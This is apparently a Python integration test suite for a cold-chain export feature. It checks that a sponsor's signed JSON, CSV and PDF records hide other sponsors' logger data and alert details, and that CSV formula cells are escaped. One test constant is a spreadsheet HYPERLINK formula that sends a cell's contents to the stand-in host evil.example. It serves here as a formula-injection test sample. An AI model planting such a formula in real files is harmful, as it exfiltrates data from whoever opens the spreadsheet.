"""Issue #20: what a sponsor's batch export may carry of a shared place, tried through the
real path: the fleet file into the catalog, readings into a real influxd, the signed record
from `export_batch(..., viewer=<sponsor viewer>)` in every format.

1. A USB logger report imported onto a unit belongs to the placements whose time it
   overlaps, cut to them: another sponsor's run of another year never reaches a record,
   and a file spanning two sponsors' stays shows each only its own time.
2. A sponsor's record has the alerts' states and times only, as the alert API gives them:
   no actor, comment or root cause. QA's record keeps everything.
3. CSV text cells that a spreadsheet would run as a formula begin with a single quote.
"""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from api.export import ExportSigner
from api.export.document import ExportMeta
from api.export.pdf_format import story
from api.export.signing import verify_bytes
from coldchain.catalog import (
    Viewer,
    catalog_session,
)
from coldchain.catalog.alerts import (
    NewAlert,
    acknowledge_alert,
    close_alert,
    open_alert,
    resolve_alert,
)
from tests.support.export_world import (
    NOW,
    ExportWorld,
    at,
    export,
    final_report,
    import_report,
    iso,
    open_export_world,
    pdf_texts,
    series,
    write,
)
from tests.support.servers import InfluxServer

pytestmark = pytest.mark.integration

ACME = Viewer("alice", "sponsor_viewer", "ACME")
FORMATS = ("json", "csv", "pdf")


FLEET = f"""\
sponsors: [{{id: ACME, name: Acme Pharma}}, {{id: BETA, name: Beta Bio}}]
sites:
  - id: BSL
    timezone: Europe/Zurich
    units:
      - {{id: FRIDGE-01, kind: refrigerator, setpoint_c: 5.0, log_interval_s: 60, sensors: [{{id: p1}}]}}
      - {{id: FRIDGE-02, kind: refrigerator, setpoint_c: 5.0, log_interval_s: 60, sensors: [{{id: p1}}]}}
products:
  - {{id: VAX-A, sponsor: ACME, storage: {{min_c: 2.0, max_c: 8.0, alarm_delay_min: 30}}}}
  - {{id: VAX-B, sponsor: BETA, storage: {{min_c: 2.0, max_c: 8.0, alarm_delay_min: 30}}}}
batches:
  - {{id: LOT-A, product: VAX-A}}
  - {{id: LOT-A2, product: VAX-A}}
  - {{id: LOT-B, product: VAX-B}}
  - {{id: LOT-B2, product: VAX-B}}
  - {{id: LOT-B22, product: VAX-B}}
placements:
  - {{batch: LOT-B22, unit: BSL/FRIDGE-01, from: "2022-05-09T22:00:00Z", to: "2022-06-20T00:00:00Z"}}
  - {{batch: LOT-A, unit: BSL/FRIDGE-01, from: "{iso(0)}", to: "{iso(12)}"}}
  - {{batch: LOT-B, unit: BSL/FRIDGE-01, from: "{iso(0)}", to: "{iso(12)}"}}
  - {{batch: LOT-B2, unit: BSL/FRIDGE-02, from: "{iso(0)}", to: "{iso(6)}"}}
  - {{batch: LOT-A2, unit: BSL/FRIDGE-02, from: "{iso(6)}", to: "{iso(12)}"}}
"""


@pytest.fixture
async def world(
    influxd: InfluxServer, influx_db: str, tmp_path: Path
) -> AsyncIterator[ExportWorld]:
    async with open_export_world(FLEET, influxd.url, influx_db, tmp_path) as world:
        yield world


async def _export(world: ExportWorld, batch: str, fmt: str, viewer: Viewer | None = None) -> bytes:
    """The export, whose signature must verify."""
    body = await export(world, batch, fmt, viewer)
    verify_bytes(body, ExportSigner.load_or_create(world.data_dir).public_key)
    return body


async def _pdf_text(world: ExportWorld, batch: str, viewer: Viewer | None) -> str:
    """The text of the PDF's paragraphs and tables, as `export_batch` would lay them out."""
    report = await final_report(world, batch, viewer)
    return pdf_texts(story(report, ExportMeta("pdf", "export-bot", NOW, "test")))


async def _all_formats(world: ExportWorld, batch: str, viewer: Viewer | None) -> dict[str, str]:
    out = {fmt: (await _export(world, batch, fmt, viewer)).decode("latin-1") for fmt in FORMATS}
    out["pdf_text"] = await _pdf_text(world, batch, viewer)
    return out


async def test_another_sponsors_logger_report_of_another_year_never_reaches_the_record(
    world: ExportWorld,
) -> None:
    """BETA's 2022 Fridge-tag run (38 days, 2 May to 8 June, max 30.3 °C) was imported onto
    the fridge ACME's LOT-A shares in 2026. ACME's record carries none of it, in any
    format, nor does QA's; BETA's 2022 batch gets it, cut to its own placement (from
    10 May): the device's days before are not shown."""
    import_report(
        world,
        "fridgetag2l",
        "BSL/FRIDGE-01",
        "BETA-LOT-B22-fridgetag.txt",
        (datetime(2022, 5, 1, 22, 0, tzinfo=UTC), datetime(2022, 6, 8, 21, 55, tzinfo=UTC)),
        actor="beta-ops",
    )
    await write(world, series("FRIDGE-01", 0, 12, lambda _: 5.0))
    texts = await _all_formats(world, "LOT-A", ACME)
    assert json.loads(texts["json"])["summary"]["device_reports"] == []
    for fmt, text in texts.items():
        for secret in ("BETA-LOT-B22", "beta-ops", "130500109088", "Fridge-tag"):
            assert secret not in text, (fmt, secret)
    for fmt in ("json", "csv", "pdf_text"):  # the PDF's bytes have numbers of their own
        assert "30.3" not in texts[fmt], fmt
    qa = json.loads(await _export(world, "LOT-A", "json"))
    assert qa["summary"]["device_reports"] == []

    [report] = json.loads(await _export(world, "LOT-B22", "json"))["summary"]["device_reports"]
    assert report["file"] == "BETA-LOT-B22-fridgetag.txt"  # QA's record: whose file it is
    days = [d["day"] for d in report["days"]]
    assert (days[0], days[-1], len(days)) == ("2022-05-10", "2022-06-08", 30)


async def test_a_logger_file_spanning_two_sponsors_shows_each_only_its_own_time(
    world: ExportWorld,
) -> None:
    """A Q-tag's file covers FRIDGE-02 from 00:00 to 12:00: BETA's LOT-B2 until 06:00 (at
    20 °C), ACME's LOT-A2 after (5 °C). ACME's record compares only its six hours' readings,
    leaves out the device's whole-run figures (they cover BETA's time too), and neither
    names the file nor who imported it."""
    import_report(
        world, "qtag_run2", "BSL/FRIDGE-02", "BETA-shared-run.txt", (at(0), at(12)), "beta-ops"
    )
    await write(world, series("FRIDGE-02", 0, 12, lambda h: 20.0 if h < 6 else 5.0, step_min=10))
    texts = await _all_formats(world, "LOT-A2", ACME)
    [report] = json.loads(texts["json"])["summary"]["device_reports"]
    assert report["readings_stored"] == 36  # 06:00 to 12:00 every 10 minutes
    assert (report["run"], report["events"], report["days"]) == ([], [], [])
    assert (report["file"], report["imported_by"]) == (None, None)
    for fmt, text in texts.items():
        for secret in ("BETA-shared-run", "beta-ops"):
            assert secret not in text, (fmt, secret)
    for fmt in ("json", "csv", "pdf_text"):  # BETA's hours at 20 °C
        assert "20.0" not in texts[fmt], fmt
    [qa] = json.loads(await _export(world, "LOT-A2", "json"))["summary"]["device_reports"]
    assert (qa["file"], qa["imported_by"], qa["readings_stored"]) == (
        "BETA-shared-run.txt",
        "beta-ops",
        36,
    )


HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"LOT-B door")'


async def _handled_alarm(world: ExportWorld) -> None:
    """Two hours at 12 °C in the shared FRIDGE-01; the operator's comment names BETA's lot,
    QA's root cause is a spreadsheet formula."""
    await write(world, series("FRIDGE-01", 0, 12, lambda h: 12.0 if 4 <= h < 6 else 5.0))
    with catalog_session(world.engine) as session:
        open_alert(
            session,
            NewAlert(
                alert_id="al-fridge-1",
                kind="excursion",
                severity="alarm",
                site="BSL",
                source="unit",
                device="FRIDGE-01",
                sensor="p1",
                start=at(4),
                end=None,
                peak_c=12.0,
                detail={"limit_c": 8.0},
            ),
            at=at(4.5),
        )
        acknowledge_alert(
            session, "al-fridge-1", actor="op-jane", at=at(5), comment="moved LOT-B of BETA out"
        )
        resolve_alert(session, "al-fridge-1", actor="detector", at=at(6), end=at(6))
        close_alert(session, "al-fridge-1", actor="qa-tom", at=at(7), root_cause=HYPERLINK)


async def test_a_sponsors_record_has_alert_states_and_times_only(world: ExportWorld) -> None:
    """The alert API gives a sponsor an alert's states and times; so does their export, in
    every format, and the same findings and verdict as QA's."""
    await _handled_alarm(world)
    texts = await _all_formats(world, "LOT-A", ACME)
    summary = json.loads(texts["json"])["summary"]
    alert = summary["excursions"][0]["detector_alert"]
    assert (alert["state"], alert["acknowledged_at"]["utc"], alert["closed_at"]["utc"]) == (
        "closed",
        "2026-03-02T05:00:00.000Z",
        "2026-03-02T07:00:00.000Z",
    )
    for key in ("acknowledged_by", "acknowledge_comment", "closed_by", "root_cause"):
        assert alert[key] is None
    for fmt, text in texts.items():
        for secret in ("op-jane", "qa-tom", "LOT-B", "BETA", "HYPERLINK", "evil.example"):
            assert secret not in text, (fmt, secret)
    assert "closed 2026-03-02 08:00 +01:00" in texts["pdf_text"]
    assert "ack 2026-03-02 06:00 +01:00" in texts["pdf_text"]
    qa = json.loads(await _export(world, "LOT-A", "json"))["summary"]
    assert summary["verdict"] == qa["verdict"]
    states = [(f["kind"], f["state"]) for f in summary["findings"]]
    assert states == [(f["kind"], f["state"]) for f in qa["findings"]]
    assert ("excursion", "open") in states  # a closed alert alone clears nothing
    qa_alert = qa["excursions"][0]["detector_alert"]
    assert (qa_alert["acknowledged_by"], qa_alert["closed_by"], qa_alert["root_cause"]) == (
        "op-jane",
        "qa-tom",
        HYPERLINK,
    )
    assert qa_alert["acknowledge_comment"] == "moved LOT-B of BETA out"


async def test_qas_csv_neutralises_formulas_but_keeps_numbers(world: ExportWorld) -> None:
    """QA's CSV carries the root cause, but as text: its cell begins with a single quote;
    the header says so. Temperatures stay numbers."""
    await _handled_alarm(world)
    csv = (await _export(world, "LOT-A", "csv")).decode()
    assert "# text_cells,a text cell beginning with = + - @" in csv
    assert "'=HYPERLINK(" in csv
    cells = [cell for line in csv.splitlines() for cell in line.split(",")]
    assert not any(cell.lstrip('"').startswith(("=", "+", "@")) for cell in cells)
    assert ",12.0," in csv
    assert ",5.0," in csv
